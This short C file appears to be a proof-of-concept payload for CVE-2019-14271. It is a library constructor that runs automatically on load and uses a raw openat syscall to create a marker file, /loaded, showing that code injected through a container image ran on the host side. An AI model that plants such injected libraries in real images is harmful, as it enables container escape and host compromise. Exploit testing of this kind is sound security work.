/* Replaces, in an image, the libraries that a helper on the host's side might load from there (CVE-2019-14271). */
__attribute__((constructor)) static void loaded(void) {
    static const char path[] = "/loaded";
    long result;
    register long mode __asm__("r10") = 0644;
    __asm__ volatile("syscall" : "=a"(result)
                     : "a"(257L /* openat */), "D"(-100L), "S"(path), "d"(0101L /* O_WRONLY | O_CREAT */), "r"(mode)
                     : "rcx", "r11", "memory");
}
